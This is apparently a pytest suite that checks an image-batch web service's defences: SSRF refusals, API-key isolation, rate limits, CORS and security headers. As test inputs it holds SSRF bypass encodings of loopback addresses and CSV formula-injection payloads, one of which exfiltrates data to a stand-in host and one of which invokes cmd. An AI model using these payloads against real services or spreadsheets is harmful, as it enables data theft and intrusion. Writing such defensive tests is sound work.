"""Security through the real service: SSRF refusals, API keys, rate limits, headers, CORS.

Every byte these tests send goes to 127.0.0.0/8 or ::1. SSRF refusals are proved
with real loopback servers that must see no request at all.
"""

from __future__ import annotations

import asyncio
import csv
import http.client
import io
import json
import re
import socket
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest

from imgbatch.api.middleware import SecurityHeaders
from support.imageserver import ImageServer
from support.service import Service, multipart, products_csv

Headers = dict[str, str]


def call(
    method: str,
    url: str,
    body: bytes | None = None,
    headers: Headers | None = None,
    source: str | None = None,
) -> tuple[int, Headers, bytes]:
    """One HTTP request, optionally from a given loopback source; header names in lower case."""
    parts = urlsplit(url)
    conn = http.client.HTTPConnection(
        parts.hostname, parts.port, timeout=30, source_address=(source, 0) if source else None
    )
    try:
        target = parts.path + (f"?{parts.query}" if parts.query else "")
        conn.request(method, target, body=body, headers=headers or {})
        response = conn.getresponse()
        return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
    finally:
        conn.close()


def upload(
    service: Service,
    data: bytes,
    headers: Headers | None = None,
    source: str | None = None,
    **fields: str,
) -> tuple[int, Headers, dict[str, Any]]:
    body, content_type = multipart(data, **fields)
    status, answer_headers, raw = call(
        "POST",
        service.url + "/api/upload",
        body,
        {"Content-Type": content_type, **(headers or {})},
        source,
    )
    return status, answer_headers, json.loads(raw)


def bearer(key: str) -> Headers:
    return {"Authorization": f"Bearer {key}"}


# --- SSRF: image and webhook URLs pointing at loopback ------------------------------------


@pytest.fixture(scope="module")
def target(image_dir: Path) -> Iterator[ImageServer]:
    """The loopback server an attacker wants to reach; it must never see a request."""
    with ImageServer(image_dir, "127.0.0.1") as server:
        yield server


@pytest.fixture(scope="module")
def target6(image_dir: Path) -> Iterator[ImageServer]:
    with ImageServer(image_dir, "::1") as server:
        yield server


@pytest.fixture(scope="module")
def gateway(image_dir: Path) -> Iterator[ImageServer]:
    """An image host the operator allowed (IMGBATCH_ALLOWED_HOSTS=127.0.0.2)."""
    with ImageServer(image_dir, "127.0.0.2") as server:
        yield server


@pytest.fixture(scope="module")
def guarded(
    tmp_path_factory: pytest.TempPathFactory,
    target: ImageServer,
    target6: ImageServer,
    gateway: ImageServer,
) -> Iterator[Service]:
    """Private URLs off. The targets' ports are allowed, so only their *addresses* can refuse them;
    an allowed host may use any port."""
    env = {
        "IMGBATCH_ALLOW_PRIVATE_URLS": "false",
        "IMGBATCH_ALLOWED_HOSTS": "127.0.0.2",
        "IMGBATCH_ALLOWED_PORTS": f"80,443,{target.port},{target6.port}",
        "IMGBATCH_UPLOAD_RATE_LIMIT": "1000",
    }
    service = Service(tmp_path_factory.mktemp("guarded") / "data", env)
    try:
        service.start(workers=1, concurrency=2)
        yield service
    finally:
        service.stop()


def test_image_urls_to_loopback_are_refused_and_never_fetched(
    guarded: Service, target: ImageServer, target6: ImageServer, gateway: ImageServer
) -> None:
    tp, t6p = target.port, target6.port
    hostile = {
        "literal IPv4": f"http://127.0.0.1:{tp}/photo0.jpg",
        "literal IPv6": f"http://[::1]:{t6p}/photo0.jpg",
        "localhost": f"http://localhost:{tp}/photo0.jpg",
        "decimal": f"http://2130706433:{tp}/photo0.jpg",
        "hex and short": f"http://0x7f.1:{tp}/photo0.jpg",
        "octal": f"http://0177.0.0.1:{tp}/photo0.jpg",
        "IPv4-mapped IPv6": f"http://[::ffff:127.0.0.1]:{tp}/photo0.jpg",
        "redirect from an allowed host": gateway.url(
            "/redirect?to=" + quote(f"http://127.0.0.1:{tp}/photo1.jpg", safe="")
        ),
    }
    rows = [(name, [url]) for name, url in hostile.items()]
    rows.append(("allowed host (control)", [gateway.url("/photo2.jpg")]))
    status, _, answer = upload(guarded, products_csv(rows))
    assert status == 202, answer

    doc = guarded.wait_final(answer["request_id"])
    by_name = {p["product_name"]: p for p in doc["products"]}
    assert by_name["allowed host (control)"]["status"] == "completed"  # the worker does fetch
    for name in hostile:
        product = by_name[name]
        assert product["status"] == "failed", (name, product)
        (error,) = product["errors"]
        assert error["code"] == "blocked_address", (name, error)
        assert "not a public address" in error["message"], (name, error)
    assert doc["progress"]["failed"] == len(hostile)
    assert target.requests == [] and target6.requests == []
    assert target.connections == 0 and target6.connections == 0
    assert any(path.startswith("/redirect?") for path in gateway.requests)


def test_webhook_url_to_loopback_is_refused_at_upload(
    guarded: Service, target: ImageServer, target6: ImageServer, gateway: ImageServer
) -> None:
    data = products_csv([("Shoe", [gateway.url("/photo0.jpg")])])
    for hook in (
        f"http://127.0.0.1:{target.port}/hook",
        f"http://localhost:{target.port}/hook",
        f"http://[::1]:{target6.port}/hook",
        f"http://2130706433:{target.port}/hook",
    ):
        status, _, answer = upload(guarded, data, webhook_url=hook)
        assert status == 422, (hook, answer)
        assert answer["error"]["code"] == "bad_webhook_url"
        assert "not a public address" in answer["error"]["message"]
    assert target.requests == [] and target6.requests == []


def test_output_csv_cells_are_escaped_against_formulas(
    guarded: Service, gateway: ImageServer
) -> None:
    names = [
        '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click me")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        # Invisible characters first: a spreadsheet skips them and still sees a formula.
        '\u200b=HYPERLINK("http://evil.invalid/","x")',
        "\ufeff+1+cmd|' /C calc'!A0",
        "\u180e@SUM(A1:A9)",
        "\u200e\u2060\u00a0-2+3",
        "\uff1dSUM(A1:A9)",  # a fullwidth equals sign, which some spreadsheets accept
        "Plain shoe",
    ]
    rows = [(name, [gateway.url(f"/photo{i % 6}.jpg")]) for i, name in enumerate(names)]
    status, _, answer = upload(guarded, products_csv(rows))
    assert status == 202, answer
    request_id = answer["request_id"]
    assert guarded.wait_final(request_id)["status"] == "completed"

    status, headers, raw = call("GET", f"{guarded.url}/api/requests/{request_id}/output.csv")
    assert status == 200 and headers["content-type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8"))))
    assert [row[1] for row in table[1:]] == ["'" + n for n in names[:-1]] + ["Plain shoe"]
    for row in table[1:]:
        assert row[2].startswith("http://127.0.0.2:")
        assert row[3].startswith(f"{guarded.url}/files/{request_id}/")


# --- API keys ---------------------------------------------------------------------------

ALPHA = "alpha-" + uuid.uuid4().hex
BETA = "beta-" + uuid.uuid4().hex
GAMMA = "gamma-" + uuid.uuid4().hex
UPLOADS_PER_MINUTE = 4
ORIGIN = "https://shop.example"


@pytest.fixture(scope="module")
def keyed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    """Keys from the variable and a file; CORS for one origin; no workers (nothing is fetched)."""
    root = tmp_path_factory.mktemp("keyed")
    keys_file = root / "keys.txt"
    keys_file.write_text(f"# imgbatch API keys\n{BETA}\n\n{GAMMA}\n", encoding="utf-8")
    env = {
        "IMGBATCH_API_KEYS": ALPHA,
        "IMGBATCH_API_KEYS_FILE": str(keys_file),
        "IMGBATCH_UPLOAD_RATE_LIMIT": str(UPLOADS_PER_MINUTE),
        "IMGBATCH_CORS_ORIGINS": ORIGIN,
    }
    service = Service(root / "data", env)
    try:
        service.start(workers=0)
        yield service
    finally:
        service.stop()


SAMPLE = products_csv([("Shoe", ["http://127.0.0.1:9/shoe.jpg"])])  # never fetched: no workers


@pytest.fixture(scope="module")
def alpha_request(keyed: Service) -> str:
    status, _, answer = upload(keyed, SAMPLE, bearer(ALPHA))
    assert status == 202, answer
    return str(answer["request_id"])


def api_operations(service: Service) -> list[tuple[str, str]]:
    status, _, raw = call("GET", service.url + "/openapi.json")
    assert status == 200
    paths = json.loads(raw)["paths"]
    return [
        (method.upper(), path)
        for path, item in paths.items()
        if path.startswith("/api/")
        for method in item
        if method in ("get", "post", "put", "patch", "delete")
    ]


def test_every_api_route_requires_a_valid_key(keyed: Service, alpha_request: str) -> None:
    operations = api_operations(keyed)
    paths = {path for _, path in operations}
    # The webhook routes are covered too (they use the same Owner dependency).
    assert {
        "/api/upload",
        "/api/status/{request_id}",
        "/api/requests/{request_id}/output.csv",
    } <= paths
    assert "/api/requests/{request_id}/webhooks" in paths
    refused = {
        "no header": {},
        "wrong key": bearer("not-" + ALPHA),
        "empty bearer": {"Authorization": "Bearer "},
        "basic scheme": {"Authorization": "Basic " + ALPHA},
        "key as a prefix": bearer(ALPHA[:-1]),
        "over 1 KiB": bearer(ALPHA + "x" * 1100),
    }
    for method, path in operations:
        url = keyed.url + path.replace("{request_id}", alpha_request)
        body = SAMPLE if method == "POST" else None
        for why, headers in refused.items():
            status, answer_headers, raw = call(
                method, url, body, {"Content-Type": "text/csv", **headers}
            )
            assert status == 401, (method, path, why, raw)
            assert json.loads(raw)["error"]["code"] == "unauthorized"
            assert answer_headers["www-authenticate"] == "Bearer"
    # The same calls with the key pass authentication.
    status, _, _ = call("GET", f"{keyed.url}/api/status/{alpha_request}", headers=bearer(ALPHA))
    assert status == 200


def test_a_request_is_invisible_to_other_keys(keyed: Service, alpha_request: str) -> None:
    unknown = uuid.uuid4().hex
    suffixes = (
        "/api/status/{}",
        "/api/requests/{}/output.csv",
        "/api/requests/{}/webhooks",
        "/api/requests/{}/images.zip",
    )
    for suffix in suffixes:
        mine = keyed.url + suffix.format(alpha_request)
        status, _, _ = call("GET", mine, headers=bearer(ALPHA))
        assert status in (200, 409), suffix  # 409: output CSV or ZIP of an unfinished request
        status, _, theirs = call("GET", mine, headers=bearer(BETA))
        assert status == 404, suffix
        status, _, nobody = call("GET", keyed.url + suffix.format(unknown), headers=bearer(BETA))
        assert status == 404 and theirs == nobody  # indistinguishable from an unknown id
    url = f"{keyed.url}/api/requests/{alpha_request}/webhooks/redeliver"
    assert call("POST", url, headers=bearer(BETA))[0] == 404
    assert call("POST", url, headers=bearer(ALPHA))[0] == 409  # not finished, but visible
    for action in ("cancel", "retry"):  # another key cannot stop or restart it either
        url = f"{keyed.url}/api/requests/{alpha_request}/{action}"
        assert call("POST", url, headers=bearer(BETA))[0] == 404, action
    url = f"{keyed.url}/api/requests/{alpha_request}/retry"
    assert call("POST", url, headers=bearer(ALPHA))[0] == 409  # still running: not finished
    # The history lists a key's own requests only.
    status, _, raw = call("GET", keyed.url + "/api/requests?limit=200", headers=bearer(ALPHA))
    assert status == 200 and alpha_request in raw.decode()
    status, _, raw = call("GET", keyed.url + "/api/requests?limit=200", headers=bearer(BETA))
    assert status == 200 and alpha_request not in raw.decode()


def test_files_links_need_no_key(keyed: Service) -> None:
    key = f"{uuid.uuid4().hex}/1/0.jpg"
    stored = keyed.data_dir / "images" / key
    stored.parent.mkdir(parents=True)
    stored.write_bytes(b"\xff\xd8\xff\xe0 stored bytes")
    status, headers, data = call("GET", f"{keyed.url}/files/{key}")
    assert status == 200 and data == stored.read_bytes()
    assert headers["x-content-type-options"] == "nosniff"
    assert call("GET", f"{keyed.url}/files/{uuid.uuid4().hex}/1/0.jpg")[0] == 404
    status, _, raw = call("GET", keyed.url + "/readyz")
    assert status == 200 and json.loads(raw)["auth"] == "api_keys"
    assert "no IMGBATCH_API_KEYS configured" not in keyed.logs()


def test_a_symlink_out_of_the_storage_root_is_not_found(keyed: Service, tmp_path: Path) -> None:
    secret = tmp_path / "outside.jpg"
    secret.write_bytes(b"\xff\xd8\xff\xe0 not for the public")
    request_dir = keyed.data_dir / "images" / uuid.uuid4().hex
    (request_dir / "1").mkdir(parents=True)
    (request_dir / "1" / "0.jpg").symlink_to(secret)
    (request_dir / "2").symlink_to(tmp_path)  # a directory link: the file below it escapes too
    for key in ("1/0.jpg", "2/outside.jpg"):
        for method in ("GET", "HEAD"):
            status, _, body = call(method, f"{keyed.url}/files/{request_dir.name}/{key}")
            assert status == 404, (method, key, body)
            assert b"not for the public" not in body
    assert "Exception in ASGI application" not in keyed.logs()


def test_upload_rate_limit_is_per_key(keyed: Service) -> None:
    for i in range(UPLOADS_PER_MINUTE):
        data = SAMPLE if i % 2 == 0 else b"not,a\ncsv"  # refused uploads count too
        status, _, _ = upload(keyed, data, bearer(GAMMA))
        assert status in (202, 400), i
    status, headers, answer = upload(keyed, SAMPLE, bearer(GAMMA))
    assert status == 429 and answer["error"]["code"] == "rate_limited"
    assert 1 <= int(headers["retry-after"]) <= 60 // UPLOADS_PER_MINUTE
    # Another key is not affected, and a wrong key is refused before any bucket is touched.
    assert upload(keyed, SAMPLE, bearer(BETA))[0] == 202
    assert upload(keyed, SAMPLE, bearer("wrong"))[0] == 401


def test_cors_allows_only_the_configured_origin(keyed: Service) -> None:
    preflight = {
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization",
    }
    status, headers, _ = call(
        "OPTIONS", keyed.url + "/api/upload", headers={"Origin": ORIGIN, **preflight}
    )
    assert status == 200
    assert headers["access-control-allow-origin"] == ORIGIN
    assert "authorization" in headers["access-control-allow-headers"].lower()
    assert "access-control-allow-credentials" not in headers

    evil = {"Origin": "https://evil.example", **preflight}
    status, headers, _ = call("OPTIONS", keyed.url + "/api/upload", headers=evil)
    assert status == 400 and "access-control-allow-origin" not in headers

    deleting = {"Origin": ORIGIN, **preflight, "Access-Control-Request-Method": "DELETE"}
    status, headers, _ = call("OPTIONS", keyed.url + "/api/requests/x", headers=deleting)
    assert status == 200 and "DELETE" in headers["access-control-allow-methods"]

    status, headers, _ = call("GET", keyed.url + "/healthz", headers={"Origin": ORIGIN})
    assert status == 200 and headers["access-control-allow-origin"] == ORIGIN
    assert headers["x-frame-options"] == "DENY"  # security headers on CORS answers too


# --- an open service: headers, limits, per-address rate limit --------------------------

OPEN_UPLOADS_PER_MINUTE = 3


@pytest.fixture(scope="module")
def open_service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    env = {"IMGBATCH_UPLOAD_RATE_LIMIT": str(OPEN_UPLOADS_PER_MINUTE)}
    service = Service(tmp_path_factory.mktemp("open") / "data", env)
    try:
        service.start(workers=0)
        yield service
    finally:
        service.stop()


def test_open_service_says_so(open_service: Service) -> None:
    status, _, raw = call("GET", open_service.url + "/readyz")
    assert status == 200 and json.loads(raw)["auth"] == "open"
    assert "no IMGBATCH_API_KEYS configured: the API is open" in open_service.logs()


def _csp(headers: Headers) -> dict[str, str]:
    directives = (d.strip() for d in headers["content-security-policy"].split(";"))
    return {name: value for name, _, value in (d.partition(" ") for d in directives if d)}


def test_security_headers_on_every_kind_of_response(open_service: Service) -> None:
    url = open_service.url
    answers = {
        "json": call("GET", url + "/healthz"),
        "openapi": call("GET", url + "/openapi.json"),
        "404 api": call("GET", f"{url}/api/status/{uuid.uuid4().hex}"),
        "404 route": call("GET", url + "/no/such/route"),
        "405": call("DELETE", url + "/healthz"),
        "415 upload": call(
            "POST", url + "/api/upload", b"{}", {"Content-Type": "application/json"}
        ),
        "400 query": call("GET", f"{url}/api/status/{uuid.uuid4().hex}?limit=0"),
        "page": call("GET", url + "/"),
        "docs": call("GET", url + "/docs"),
        "redoc": call("GET", url + "/redoc"),
    }
    for name, (status, headers, _) in answers.items():
        assert status < 500, name
        assert headers["x-content-type-options"] == "nosniff", name
        assert headers["x-frame-options"] == "DENY", name
        assert headers["referrer-policy"] == "no-referrer", name
        assert _csp(headers)["frame-ancestors"] == "'none'", name
        assert "access-control-allow-origin" not in headers, name
    for name in ("json", "openapi", "404 api", "404 route", "405", "415 upload", "400 query"):
        headers = answers[name][1]
        assert headers["content-type"].startswith("application/json"), name
        assert headers["cache-control"] == "no-store", name
        assert _csp(headers)["default-src"] == "'none'" and "sandbox" in _csp(headers), name

    # The web UI runs only its own static scripts and styles, and calls only this origin.
    status, headers, page = answers["page"]
    csp = _csp(headers)
    assert csp["script-src"] == "'self'" and csp["style-src"] == "'self'"
    assert csp["connect-src"] == "'self'" and csp["default-src"] == "'none'"
    assert b"<script>" not in page and b"<style>" not in page and b" style=" not in page
    assert not re.search(rb"""(src|href)=["']?(https?:)?//""", page)  # nothing external to allow

    # /docs and /redoc: every external origin their HTML loads from is allowed by the policy.
    for name in ("docs", "redoc"):
        _, headers, html = answers[name]
        allowed = " ".join(_csp(headers).values())
        origins = set(re.findall(rb"""["'](https://[^/"']+)""", html))
        assert origins, name
        for origin in origins:
            assert origin.decode() in allowed, (name, origin)


def test_cors_is_off_by_default(open_service: Service) -> None:
    preflight = {
        "Origin": "https://shop.example",
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization",
    }
    status, headers, _ = call("OPTIONS", open_service.url + "/api/upload", headers=preflight)
    assert status == 405 and "access-control-allow-origin" not in headers
    status, headers, _ = call(
        "GET", open_service.url + "/healthz", headers={"Origin": "https://x.example"}
    )
    assert status == 200 and "access-control-allow-origin" not in headers


def test_upload_rate_limit_is_per_client_address_when_open(open_service: Service) -> None:
    sample = products_csv([("Shoe", ["http://127.0.0.1:9/shoe.jpg"])])
    for _ in range(OPEN_UPLOADS_PER_MINUTE):
        assert upload(open_service, sample, source="127.0.0.3")[0] == 202
    status, headers, answer = upload(open_service, sample, source="127.0.0.3")
    assert status == 429 and answer["error"]["code"] == "rate_limited"
    assert int(headers["retry-after"]) >= 1
    assert upload(open_service, sample, source="127.0.0.4")[0] == 202  # another client


def test_x_forwarded_for_is_trusted_from_127_0_0_1_and_1_only_by_default(
    open_service: Service,
) -> None:
    """uvicorn's default FORWARDED_ALLOW_IPS is "127.0.0.1,::1" (a proxy on this machine):
    a client connecting from there names its own address, and so its rate-limit bucket,
    with X-Forwarded-For; from any other address the header is ignored (README, Security)."""
    sample = products_csv([("Shoe", ["http://127.0.0.1:9/shoe.jpg"])])

    def forwarded(address: str, source: str) -> int:
        return upload(open_service, sample, {"X-Forwarded-For": address}, source=source)[0]

    for _ in range(OPEN_UPLOADS_PER_MINUTE):
        assert forwarded("198.51.100.7", "127.0.0.1") == 202
    assert forwarded("198.51.100.7", "127.0.0.1") == 429  # that "client" is limited ...
    assert forwarded("198.51.100.8", "127.0.0.1") == 202  # ... another one is not
    for _ in range(OPEN_UPLOADS_PER_MINUTE):
        assert forwarded("198.51.100.9", "127.0.0.5") == 202
    # 127.0.0.5 is not a trusted proxy: its header is ignored and its own bucket is empty.
    assert forwarded("198.51.100.10", "127.0.0.5") == 429
    assert upload(open_service, sample, source="127.0.0.5")[0] == 429


def _raw_exchange(port: int, head: bytes, pieces: int = 1) -> bytes:
    """Send a request head in `pieces` writes; return the answer (b"" if the server hung up)."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        step = -(-len(head) // pieces)
        try:
            for i in range(0, len(head), step):
                sock.sendall(head[i : i + step])
                if pieces > 1:
                    time.sleep(0.002)
        except (BrokenPipeError, ConnectionResetError):
            pass
        chunks = []
        try:
            while chunk := sock.recv(65536):
                chunks.append(chunk)
        except (ConnectionResetError, TimeoutError):
            pass
    return b"".join(chunks)


def test_header_count_and_size_limits(open_service: Service) -> None:
    port = open_service.port
    start = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"

    many = start + b"".join(b"X-F%d: v\r\n" % i for i in range(150)) + b"\r\n"
    answer = _raw_exchange(port, many)
    assert answer.startswith(b"HTTP/1.1 431 "), answer[:200]
    assert b"headers_too_large" in answer

    large = start + b"X-Big: " + b"a" * 40_000 + b"\r\n\r\n"
    assert _raw_exchange(port, large).startswith(b"HTTP/1.1 431 ")

    # A head past uvicorn's h11 limit (64 KiB) is cut off by the HTTP parser itself,
    # however it arrives: it never reaches the application.
    huge = start + b"X-Huge: " + b"a" * 2_000_000 + b"\r\n\r\n"
    for pieces in (1, 400):
        answer = _raw_exchange(port, huge, pieces)
        assert answer == b"" or answer.startswith(b"HTTP/1.1 400 "), answer[:200]

    fine = start + b"".join(b"X-F%d: v\r\n" % i for i in range(40)) + b"\r\n"
    assert _raw_exchange(port, fine).startswith(b"HTTP/1.1 200 ")


def test_an_unexpected_error_still_gets_the_security_headers() -> None:
    """Starlette answers unhandled errors outside user middleware; ours answers first."""

    async def broken(scope: Any, receive: Any, send: Any) -> None:
        raise RuntimeError("boom")

    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b""}

    scope = {"type": "http", "method": "GET", "path": "/api/x", "headers": []}
    with pytest.raises(RuntimeError):  # re-raised, so it is still logged
        asyncio.run(SecurityHeaders(broken)(scope, receive, send))
    start, body = sent
    headers = dict(start["headers"])
    assert start["status"] == 500
    assert headers[b"x-frame-options"] == b"DENY" and headers[b"cache-control"] == b"no-store"
    assert json.loads(body["body"])["error"]["code"] == "internal"
